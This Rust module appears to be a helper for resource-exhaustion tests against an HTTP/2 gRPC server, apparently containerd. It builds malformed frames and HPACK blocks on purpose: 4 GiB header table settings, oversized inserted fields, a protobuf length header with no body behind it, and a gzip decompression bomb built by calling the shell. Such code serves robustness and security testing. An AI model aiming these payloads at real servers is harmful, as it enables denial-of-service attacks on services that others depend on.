//! HTTP/2 frames (RFC 9113 section 4) and header blocks (RFC 7541) as no honest client writes them.

use std::process::Command;

use anyhow::{Result, ensure};

pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const CONTINUATION: u8 = 9;
pub(crate) const ACK: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;
/// The largest frame that needs no permission.
pub(crate) const FRAME_MAX: usize = 16 << 10;
/// `SETTINGS_HEADER_TABLE_SIZE`, 4 GiB less one.
pub(crate) const TABLE_OF_4_GIB: [u8; 6] = [0, 1, 0xff, 0xff, 0xff, 0xff];

/// The connection preface and a `SETTINGS` frame with this payload.
pub(crate) fn opening(settings: &[u8]) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, settings));
    bytes
}

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len())
        .expect("a frame is small")
        .to_be_bytes();
    let mut frame = len[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// The block of a call, with nothing inserted into a table; `more` are further fields.
pub(crate) fn call(path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    for (name, value) in [
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("containerd-namespace", "default"),
    ]
    .iter()
    .chain(more)
    {
        block.push(0);
        block.extend(text(name.as_bytes()));
        block.extend(text(value.as_bytes()));
    }
    block
}

/// A field that is inserted into the table, with a value of so many bytes.
pub(crate) fn inserted(name: &str, len: usize) -> Vec<u8> {
    let mut field = vec![0x40];
    field.extend(text(name.as_bytes()));
    field.extend(text(&vec![b'v'; len]));
    field
}

/// "Dynamic table size update" (section 6.3) to 4 GiB less one.
pub(crate) fn table_of_4_gib() -> Vec<u8> {
    integer(0x20, 5, usize::try_from(u32::MAX).expect("64 bits"))
}

fn text(bytes: &[u8]) -> Vec<u8> {
    let mut string = integer(0, 7, bytes.len());
    string.extend_from_slice(bytes);
    string
}

/// An integer with a prefix of so many bits (section 5.1).
fn integer(pattern: u8, bits: u32, value: usize) -> Vec<u8> {
    let most = (1 << bits) - 1;
    let byte = |value: usize| u8::try_from(value).expect("it fits by then");
    if value < most {
        return vec![pattern | byte(value)];
    }
    let mut bytes = vec![pattern | byte(most)];
    let mut rest = value - most;
    while rest >= 0x80 {
        bytes.push(byte(rest & 0x7f) | 0x80);
        rest >>= 7;
    }
    bytes.push(byte(rest));
    bytes
}

/// gRPC's prefix of a message of this length.
pub(crate) fn prefix(compressed: bool, len: u32) -> Vec<u8> {
    let mut bytes = vec![u8::from(compressed)];
    bytes.extend_from_slice(&len.to_be_bytes());
    bytes
}

/// A `StartRequest` of this container (field 1), and the head of a field that has `len` bytes and is none of its own.
pub(crate) fn start(container: &str, len: usize) -> Vec<u8> {
    let mut message = vec![0x0a];
    message.extend(integer(0, 7, container.len()));
    message.extend_from_slice(container.as_bytes());
    message.push(0x7a);
    message.extend(varint(len));
    message
}

fn varint(mut value: usize) -> Vec<u8> {
    let mut bytes = Vec::new();
    while value >= 0x80 {
        bytes.push(u8::try_from(value & 0x7f).expect("seven bits") | 0x80);
        value >>= 7;
    }
    bytes.push(u8::try_from(value).expect("seven bits"));
    bytes
}

/// `begin` and so many bytes of zeros, as gzip(1) packs them: about a thousandth.
pub(crate) fn bomb(begin: &[u8], zeros: usize) -> Result<Vec<u8>> {
    let begin: Vec<String> = begin.iter().map(|byte| format!("\\{byte:03o}")).collect();
    let begin = begin.concat();
    let script = format!("{{ printf '{begin}'; head --bytes={zeros} /dev/zero; }} | gzip --best");
    let output = Command::new("sh").args(["-c", &script]).output()?;
    ensure!(output.status.success(), "gzip: {output:?}");
    Ok(output.stdout)
}
